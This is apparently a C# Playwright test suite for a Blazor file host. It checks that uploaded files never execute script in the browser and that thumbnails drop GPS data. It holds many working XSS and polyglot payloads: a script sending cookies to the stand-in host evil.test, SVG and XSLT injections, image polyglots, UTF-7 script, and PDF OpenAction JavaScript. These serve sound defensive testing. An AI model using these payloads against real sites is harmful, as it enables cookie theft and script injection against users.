using System.Collections.Concurrent;
using System.Net;
using System.Text;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Http;
using Microsoft.Playwright;

namespace BlazorFileHost.Tests.Browser;

/// <summary>Files opened in Chromium by somebody who is signed in: those that may be shown, and those that would like to be a page of ours.</summary>
public sealed class PreviewTests : IAsyncLifetime
{
    /// <summary>Whatever runs asks for an address with this word, here and elsewhere, and opens a dialog.</summary>
    private const string Canary = "canary-was-here";

    private const string Script = $"document.title='{Canary}';fetch('/{Canary}?fetch');new Image().src='http://evil.test/{Canary}?'+document.cookie;top.location.hash='{Canary}';alert('{Canary}')";
    private const string Page = $"<!doctype html><html><body><img src=/{Canary}?html><script>{Script}</script></body></html>";
    private const string Svg = $"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' onload=\"{Script}\"><script>{Script}</script>"
        + $"<image xlink:href='/{Canary}?svg'/><a xlink:href='javascript:{Script}'><text>x</text></a><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload=\"{Script}\"/></foreignObject></svg>";

    private static readonly string[] Questions = ["", "?inline=1", "?download=0", "?type=text/html", "?content-type=text/html&response-content-type=text/html&response-content-disposition=inline"];

    private readonly Chromium chromium = new();
    private RunningApp app = null!;

    private static string Extensions => string.Join(' ', Files().Select(file => file.Name[(file.Name.LastIndexOf('.') + 1)..]).Distinct());

    public async Task InitializeAsync()
    {
        if (Chromium.Path is null && Environment.GetEnvironmentVariable("CI") != "true")
        {
            return;
        }

        await chromium.InitializeAsync();
        app = await RunningApp.StartAsync(new() { ["Files:AllowedExtensions"] = $"{Extensions} wav" });
    }

    public async Task DisposeAsync()
    {
        if (app is not null)
        {
            await chromium.DisposeAsync();
            await app.DisposeAsync();
        }
    }

    [BrowserFact, Trait("Battery", "XSS-01"), Trait("Battery", "CNT-03"), Trait("Battery", "CNT-09"), Trait("Battery", "CNT-14"), Trait("Battery", "XSS-08")]
    public async Task None_of_them_runs_on_any_route()
    {
        using var person = await Person.SignedUpAsync(app);
        await using var context = await OpenAsync(person);
        var heard = new ConcurrentQueue<string>();
        context.Request += (_, request) => Hear(request.Url);
        context.Dialog += (_, dialog) =>
        {
            heard.Enqueue($"dialog {dialog.Message}");
            _ = dialog.DismissAsync();
        };
        await context.RouteAsync("http://evil.test/**", route => route.FulfillAsync(new() { Body = "" }));
        // One that scripts can read, beside the session's own that they cannot.
        await context.AddCookiesAsync([new() { Name = "readable", Value = Canary, Url = app.Address.ToString() }]);

        var files = new List<(string Name, Guid Id)>();
        foreach (var (name, bytes) in Files())
        {
            files.Add((name, (await person.UploadedAsync(name, bytes)).Id));
        }

        Assert.InRange(files.Count, 40, 80);

        // Every route and question, as a program sees them: an attachment, or a type that cannot run under a policy that lets nothing run.
        foreach (var (name, id) in files)
        {
            foreach (var address in Addresses(id))
            {
                using var answer = await person.Client.GetPageAsync(address);
                var policy = string.Join(';', answer.Headers.GetValues("Content-Security-Policy"));
                var shown = answer.Content.Headers.ContentDisposition?.DispositionType;
                Assert.Equal("nosniff", Assert.Single(answer.Headers.GetValues("X-Content-Type-Options")));
                if (answer.StatusCode == HttpStatusCode.NotFound)
                {
                    Assert.Contains("/view", address, StringComparison.Ordinal);
                    continue;
                }

                Assert.True(answer.StatusCode == HttpStatusCode.OK && policy.StartsWith("sandbox", StringComparison.Ordinal)
                    && policy.Contains("default-src 'none'", StringComparison.Ordinal) && !policy.Contains("allow-scripts", StringComparison.Ordinal)
                    && (shown == "attachment" || (shown == "inline" && answer.Content.Headers.ContentType!.MediaType is "text/plain" or "image/png" or "image/gif" or "image/jpeg" or "application/pdf")),
                    $"{name} {address}: {(int)answer.StatusCode} {shown} {answer.Content.Headers.ContentType} {policy}");
            }
        }

        // In the browser: typed as an address, with and without questions.
        var page = await context.NewPageAsync();
        foreach (var (name, id) in files)
        {
            foreach (var address in new[] { $"/files/{id}", $"/files/{id}/view", $"/files/{id}/view{Questions[^1]}" })
            {
                try
                {
                    await page.GotoAsync(address, new() { WaitUntil = WaitUntilState.Load });
                }
                catch (PlaywrightException saved) when (saved.Message.Contains("Download is starting", StringComparison.Ordinal) || saved.Message.Contains("ERR_ABORTED", StringComparison.Ordinal))
                {
                    // An attachment.
                }

                Assert.True(heard.IsEmpty, $"{name} {address}: {string.Join(", ", heard)}");
            }
        }

        // As a part of our own page, as if somebody had got markup into it: in a frame, as an object, a picture, a script, a style, a worker.
        await page.GotoAsync("/account/manage");
        foreach (var (name, id) in files)
        {
            // The frame whose content is saved has no other end than that.
            await page.RunAndWaitForDownloadAsync(() => page.EvaluateAsync(
                """
                async addresses => {
                    const kept = new Set();
                    document.addEventListener('securitypolicyviolation', event => kept.forEach(tell => tell(event)));
                    const settled = addresses.flatMap(address => [['iframe', 'src'], ['img', 'src'], ['script', 'src'], ['video', 'src'], ['object', 'data'], ['embed', 'src'], ['link', 'href']].map(([kind, where]) => new Promise(done => {
                        const element = document.createElement(kind);
                        if (kind === 'link') element.rel = 'stylesheet';
                        element.addEventListener('load', done);
                        element.addEventListener('error', done);
                        element.addEventListener('loadedmetadata', done);
                        // What the page's policy keeps out says neither.
                        if (['object', 'embed'].includes(kind)) kept.add(event => event.effectiveDirective === 'object-src' && event.blockedURI.endsWith(address) && done());
                        if (kind === 'iframe' && address === addresses[0]) done();
                        element[where] = address;
                        document.body.append(element);
                    })));
                    settled.push(navigator.serviceWorker.register(addresses[0]).catch(() => {}));
                    settled.push(navigator.serviceWorker.register(addresses[1]).catch(() => {}));
                    settled.push(import(addresses[0]).catch(() => {}));
                    await Promise.all(settled);
                }
                """, new[] { $"/files/{id}", $"/files/{id}/view" }));
            Assert.True(heard.IsEmpty, $"{name} embedded: {string.Join(", ", heard)}");
        }

        Assert.DoesNotContain(Canary, await page.TitleAsync(), StringComparison.Ordinal);
        Assert.DoesNotContain(Canary, page.Url, StringComparison.Ordinal);

        // The net catches: the same page, given as one, does all of it.
        await context.RouteAsync("**/as-a-page", route => route.FulfillAsync(new() { ContentType = "text/html", Body = Page }));
        await page.GotoAsync("/as-a-page");
        await Eventually.TrueAsync(() => heard.Any(each => each.Contains("evil.test", StringComparison.Ordinal) && each.Contains("readable", StringComparison.Ordinal))
            && heard.Any(each => each.StartsWith("dialog", StringComparison.Ordinal)), "the canary is heard");

        void Hear(string url)
        {
            if (url.Contains(Canary, StringComparison.Ordinal) && !url.StartsWith("data:", StringComparison.Ordinal))
            {
                heard.Enqueue(url);
            }
        }
    }

    [BrowserFact, Trait("Battery", "XSS-03"), Trait("Battery", "CNT-13")]
    public async Task What_may_be_shown_shows_in_a_tab_and_in_our_page_and_a_picture_gets_a_small_one()
    {
        using var person = await Person.SignedUpAsync(app);
        await using var context = await OpenAsync(person);
        var page = await context.NewPageAsync();
        await page.GotoAsync("/account/manage");
        // A picture as a camera makes it, with a place in it; drawn here, for we can draw none.
        var drawn = Convert.FromBase64String(await page.EvaluateAsync<string>(
            """
            async () => {
                const canvas = document.createElement('canvas');
                [canvas.width, canvas.height] = [1200, 600];
                canvas.getContext('2d').fillRect(0, 0, 600, 600);
                const blob = await new Promise(done => canvas.toBlob(done, 'image/jpeg'));
                return btoa(String.fromCharCode(...new Uint8Array(await blob.arrayBuffer())));
            }
            """));
        byte[] photograph = [.. drawn[..20], 0xFF, 0xE1, 0, 40, .. "Exif\0\0MM\0*\0\0\0\x08\0\0GPS 52.52N 13.40E  "u8, .. drawn[20..]];
        var picture = await person.UploadedAsync("photograph.jpg", photograph);
        var text = await person.UploadedAsync("letter.txt", "Grüße <b>not bold</b>\n"u8.ToArray());
        var pages = await person.UploadedAsync("pages.pdf", Samples.Bytes("pdf", 1));
        var sound = await person.UploadedAsync("second.wav", Wave());

        await page.GotoAsync($"/files/{picture.Id}/view");
        Assert.Equal(1200, await page.EvaluateAsync<int>("document.images[0].naturalWidth"));
        await page.GotoAsync($"/files/{text.Id}/view");
        Assert.Equal("Grüße <b>not bold</b>", (await page.InnerTextAsync("body")).Trim());
        await page.GotoAsync($"/files/{sound.Id}/view");
        await page.WaitForFunctionAsync("document.querySelector('video').duration === 1");

        await page.GotoAsync("/account/manage");
        await page.EvaluateAsync(
            """
            async ({ picture, text, pages, sound }) => {
                const load = (kind, event, address, more) => new Promise((done, fail) => {
                    const element = Object.assign(document.createElement(kind), more);
                    element.addEventListener(event, done);
                    element.addEventListener('error', () => fail(new Error(address)));
                    element.src = address;
                    document.body.append(element);
                });
                await load('img', 'load', `/files/${picture}/view`);
                await load('video', 'loadedmetadata', `/files/${sound}/view`);
                await load('iframe', 'load', `/files/${text}/view`, { name: 'text' });
                await load('iframe', 'load', `/files/${pages}/view`, { name: 'pages' });
            }
            """, new { picture = picture.Id, text = text.Id, pages = pages.Id, sound = sound.Id });
        Assert.Equal("Grüße <b>not bold</b>", (await page.Frame("text")!.InnerTextAsync("body")).Trim());
        // Chromium puts its own viewer into the frame, as frames of their own.
        await Eventually.TrueAsync(() => page.Frames.Any(frame => frame.Url.StartsWith("chrome-extension://", StringComparison.Ordinal)), "the pages are shown");

        // The small picture is made here and kept there: without the place.
        Assert.True(await page.EvaluateAsync<bool>("async id => (await import('/Files/Thumbnail.razor.js')).make(id)", picture.Id));
        var small = await person.Client.GetByteArrayAsync($"/files/{picture.Id}/thumbnail");
        Assert.InRange(small.Length, 100, 64 * 1024);
        Assert.Equal(-1, small.AsSpan().IndexOf("GPS"u8));
        Assert.Equal("256 x 128", await page.EvaluateAsync<string>(
            "async address => { const image = new Image(); image.src = address; await image.decode(); return `${image.naturalWidth} x ${image.naturalHeight}`; }", $"/files/{picture.Id}/thumbnail"));
        Assert.Equal(photograph, await person.Client.GetByteArrayAsync($"/files/{picture.Id}"));
        // What is no picture gets none.
        Assert.False(await page.EvaluateAsync<bool>("async id => (await import('/Files/Thumbnail.razor.js')).make(id)", text.Id));
        Complain.Nobody(app.Complaints);
    }

    [BrowserFact, Trait("Battery", "XSS-08")]
    public async Task A_page_of_another_site_gets_nothing_of_a_file_of_who_visits_it()
    {
        using var person = await Person.SignedUpAsync(app);
        await using var context = await OpenAsync(person);
        var answers = new ConcurrentQueue<(string Url, int Status)>();
        context.Response += (_, answer) =>
        {
            if (answer.Url.StartsWith($"{app.Address}files/", StringComparison.Ordinal))
            {
                answers.Enqueue((answer.Url, answer.Status));
            }
        };
        var picture = await person.UploadedAsync("part.png", Samples.Bytes("png", 1));
        var script = await person.UploadedAsync("part.txt", "window.leaked = true"u8.ToArray());
        string[] addresses = [.. new[] { picture.Id, script.Id }.SelectMany(id => new[] { $"{app.Address}files/{id}", $"{app.Address}files/{id}/view", $"{app.Address}files/{id}/thumbnail" })];
        var page = await context.NewPageAsync();

        // A real one, on a port of its own: by another name it is another site, by the same one the same site, which cookies take for ours.
        await using var site = WebApplication.CreateSlimBuilder().Build();
        site.Urls.Add("http://127.0.0.1:0");
        ((IApplicationBuilder)site).Run(http =>
        {
            http.Response.ContentType = "text/html";
            return http.Response.WriteAsync("<!doctype html><title>Another site</title><body>");
        });
        await site.StartAsync();
        var port = new Uri(site.Urls.Single()).Port;
        foreach (var host in new[] { "localhost", "127.0.0.1" })
        {
            answers.Clear();
            await page.GotoAsync($"http://{host}:{port}/");
            Assert.Empty(await page.EvaluateAsync<string[]>(Embed, addresses));
            Assert.Equal(addresses.Order(), answers.Select(answer => answer.Url).Distinct().Order());
            Assert.All(answers, answer => Assert.Equal(403, answer.Status));
        }

        // The net catches: to our own page the same elements give what may be shown.
        answers.Clear();
        await page.GotoAsync("/account/manage");
        var had = await page.EvaluateAsync<string[]>(Embed, addresses);
        Assert.Contains($"img {addresses[1]}", had);
        Assert.Contains($"fetch {addresses[3]}", had);
        Assert.Contains(answers, answer => answer.Status == 200);
    }

    /// <summary>All ways in which a page can take in an address; the answer is those that gave something.</summary>
    private const string Embed =
        """
        async addresses => {
            const had = [];
            const element = (kind, where, address, got, ends = ['load', 'error', 'loadedmetadata']) => new Promise(done => {
                const part = document.createElement(kind);
                if (kind === 'link') part.rel = 'stylesheet';
                for (const end of ends) part.addEventListener(end, event => {
                    if (got(part, event.type)) had.push(`${kind} ${address}`);
                    done();
                });
                part[where] = address;
                document.body.append(part);
                // What is kept out of a frame, or of our own page by its policy, may say nothing at all: the network is looked at for it.
                if (['iframe', 'object', 'embed'].includes(kind)) done();
            });
            await Promise.all(addresses.flatMap(address => [
                element('img', 'src', address, part => part.naturalWidth > 0),
                element('script', 'src', address, () => window.leaked === true),
                element('link', 'href', address, (_, how) => how === 'load'),
                element('video', 'src', address, (_, how) => how === 'loadedmetadata'),
                element('iframe', 'src', address, part => { try { return part.contentDocument?.body.textContent.includes('leaked'); } catch { return false; } }),
                element('object', 'data', address, () => false),
                element('embed', 'src', address, () => false),
                // What this gives nobody can read; the network tells whether it was a refusal.
                fetch(address, { mode: 'no-cors', credentials: 'include' }).catch(() => {}),
                fetch(address, { credentials: 'include' }).then(answer => answer.ok && had.push(`fetch ${address}`), () => {}),
            ]));
            return had;
        }
        """;

    /// <summary>A browser in which that person is signed in.</summary>
    private async Task<IBrowserContext> OpenAsync(Person person)
    {
        var context = await chromium.PersonAsync(app.Address);
        context.SetDefaultTimeout(Visitor.Patience);
        await context.AddCookiesAsync(person.Cookies.Split("; ").Select(pair => pair.Split('=', 2))
            .Select(pair => new Microsoft.Playwright.Cookie { Name = pair[0], Value = pair[1], Url = app.Address.ToString(), HttpOnly = true, SameSite = SameSiteAttribute.Lax }));
        return context;
    }

    /// <summary>A second of silence, 8000 samples of 8 bits.</summary>
    private static byte[] Wave()
        => [.. "RIFF"u8, .. BitConverter.GetBytes(8036), .. "WAVEfmt "u8, 16, 0, 0, 0, 1, 0, 1, 0, .. BitConverter.GetBytes(8000), .. BitConverter.GetBytes(8000), 1, 0, 8, 0,
            .. "data"u8, .. BitConverter.GetBytes(8000), .. Enumerable.Repeat((byte)128, 8000)];

    private static IEnumerable<string> Addresses(Guid id)
        => from route in new[] { $"/files/{id}", $"/files/{id}/view" } from question in Questions select route + question;

    private static IEnumerable<(string Name, byte[] Bytes)> Files()
    {
        var page = Encoding.UTF8.GetBytes(Page);
        foreach (var ending in new[] { "html", "htm", "xhtml", "xht", "shtml", "hta", "php", "svg", "mht", "foo", "aspx", "htc", "jsp" })
        {
            yield return ($"page.{ending}", ending == "svg" ? Encoding.UTF8.GetBytes(Svg) : page);
        }

        foreach (var (name, text) in new (string, string)[]
        {
            ("strict.xhtml", $"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>{Script.Replace("&", "&amp;", StringComparison.Ordinal)}</script></html>"),
            ("styled.xml", $"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='#s'?><xsl:stylesheet id='s' version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'><script>{Script}</script></xsl:template></xsl:stylesheet>"),
            ("entity.xml", $"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM '/{Canary}?entity'>]><a xmlns:h='http://www.w3.org/1999/xhtml'>&x;<h:script>{Script}</h:script></a>"),
            ("sheet.xsl", $"<xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'><script>{Script}</script></xsl:template></xsl:stylesheet>"),
            ("laughs.svg", $"<!DOCTYPE svg [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;'>]>{Svg}"),
            ("feed.rss", $"<rss version='2.0'><channel><title><![CDATA[{Page}]]></title></channel></rss>"),
            ("feed.atom", $"<feed xmlns='http://www.w3.org/2005/Atom'><content type='html'><![CDATA[{Page}]]></content></feed>"),
            ("map.rdf", $"<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'><h:script xmlns:h='http://www.w3.org/1999/xhtml'>{Script}</h:script></rdf:RDF>"),
            ("letter.eml", $"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n{Page}"),
            ("archive.mhtml", $"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n{Page}\r\n--b--"),
            ("script.js", Script),
            ("module.mjs", $"{Script};export default 1"),
            ("worker.js", $"self.addEventListener('fetch',e=>e.respondWith(new Response('x')));fetch('/{Canary}?worker')"),
            ("style.css", $"@import '/{Canary}?import';body{{background:url(/{Canary}?style)}}"),
            ("subtitles.vtt", $"WEBVTT\n\n00:00.000 --> 00:10.000\n<script>{Script}</script>"),
            ("book.md", $"{Page}\n[a](javascript:{Script}) <img src=/{Canary}?md onerror={Script}>"),
            ("data.json", $"{{\"a\":\"{Page.Replace("\"", "'", StringComparison.Ordinal)}\"}}"),
            ("app.webmanifest", $"{{\"start_url\":\"/{Canary}\"}}"),
            ("shortcut.url", $"[InternetShortcut]\r\nURL=javascript:{Script}"),
            ("page.txt", Page),
            ("page.log", Page),
            ("table.csv", $"=HYPERLINK(\"/{Canary}\"),{Page}"),
            ("spaces.txt", new string(' ', 4096) + Page),
            ("seven.txt", $"+ADw-script+AD4-{Script}+ADw-/script+AD4-"),
            ("movie.mp4", Page),
            ("sound.ogg", Page),
            ("film.webm", Page),
            ("picture.webp", Page),
        })
        {
            yield return (name, Encoding.UTF8.GetBytes(text));
        }

        yield return ("wide.txt", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(Page)]);
        yield return ("wide.html", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(Page)]);
        yield return ("behind.png", [.. Samples.Bytes("png", 1), .. page]);
        yield return ("comment.jpg", [.. Samples.Bytes("jpg", 1)[..20], 0xFF, 0xFE, .. BitConverter.GetBytes((ushort)(page.Length + 2)).Reverse(), .. page, .. Samples.Bytes("jpg", 1)[20..]]);
        yield return ("variable.gif", [.. "GIF89a=1;"u8, .. Encoding.UTF8.GetBytes(Script), .. "//"u8]);
        yield return ("gifar.gif", [.. Samples.Bytes("gif", 1), .. Samples.Zip(("META-INF/MANIFEST.MF", page), ("a.class", [0xCA, 0xFE]))]);
        yield return ("drawing.svgz", Gzipped(Encoding.UTF8.GetBytes(Svg)));
        yield return ("flash.swf", [.. "FWS\x05"u8, 0, 0, 0, 0, .. page]);
        yield return ("book.epub", Samples.Zip(("mimetype", "application/epub+zip"u8.ToArray()), ("a.xhtml", page)));
        yield return ("program.wasm", [0, .. "asm"u8, 1, 0, 0, 0]);
        yield return ("template.docx", Samples.Zip(("[Content_Types].xml", page), ("word/document.xml", page),
            ("word/_rels/settings.xml.rels", Encoding.UTF8.GetBytes($"<Relationships><Relationship Target='http://evil.test/{Canary}' TargetMode='External'/></Relationships>"))));
        yield return ("before.pdf", [.. Encoding.UTF8.GetBytes($"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n{Page}\n"), .. Samples.Bytes("pdf", 1)]);
        yield return ("action.pdf", Encoding.Latin1.GetBytes(Encoding.Latin1.GetString(Samples.Bytes("pdf", 2))
            .Replace("<</Type/Catalog", $"<</OpenAction<</S/URI/URI(http://evil.test/{Canary})>>/Type/Catalog", StringComparison.Ordinal)));
        yield return ("script.pdf", Encoding.Latin1.GetBytes(Encoding.Latin1.GetString(Samples.Bytes("pdf", 3))
            .Replace("<</Type/Catalog", $"<</OpenAction<</S/JavaScript/JS(app.alert\\('{Canary}'\\);app.launchURL\\('http://evil.test/{Canary}'\\))>>/Type/Catalog", StringComparison.Ordinal)));
    }

    private static byte[] Gzipped(byte[] bytes)
    {
        using var packed = new MemoryStream();
        using (var gzip = new System.IO.Compression.GZipStream(packed, System.IO.Compression.CompressionLevel.Fastest))
        {
            gzip.Write(bytes);
        }

        return packed.ToArray();
    }
}
